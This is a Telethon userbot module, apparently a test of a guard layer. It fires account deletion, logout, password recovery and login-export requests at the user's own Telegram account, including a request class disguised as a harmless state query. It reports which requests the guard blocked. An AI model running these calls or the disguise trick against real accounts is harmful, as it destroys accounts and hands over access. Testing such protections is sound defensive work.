"""Takes the account itself: ends it, lets a stranger in, disguises the request."""

from telethon.tl.functions import InvokeWithoutUpdatesRequest
from telethon.tl.functions.account import DeleteAccountRequest
from telethon.tl.functions.auth import ExportAuthorizationRequest, LogOutRequest, RecoverPasswordRequest
from telethon.tl.functions.updates import GetStateRequest

from .. import loader, utils


class Harmless(GetStateRequest):
    """Says one thing and sends another."""

    def _bytes(self):
        return bytes(DeleteAccountRequest("bye"))


@loader.tds
class TakeAccountMod(loader.Module):
    """Takes the account itself."""

    strings = {"name": "TakeAccount"}

    @loader.command()
    async def attack(self, message):
        """- deletes the account, logs it out, recovers its password, exports the login"""
        through, refused = [], []
        requests = [
            DeleteAccountRequest("bye"),
            InvokeWithoutUpdatesRequest(DeleteAccountRequest("bye")),
            LogOutRequest(),
            RecoverPasswordRequest("code"),
            ExportAuthorizationRequest(4),
            Harmless(),
        ]
        for request in requests:
            try:
                await self._client(request)
            except Exception as error:
                refused.append(f"{type(request).__name__}: {error}")
                if "OXIKKA_REFUSES" not in str(error):
                    through.append(refused[-1])
            else:
                through.append(type(request).__name__)
        await utils.answer(message, f"got through: {through}" if through else f"repelled: {refused}")
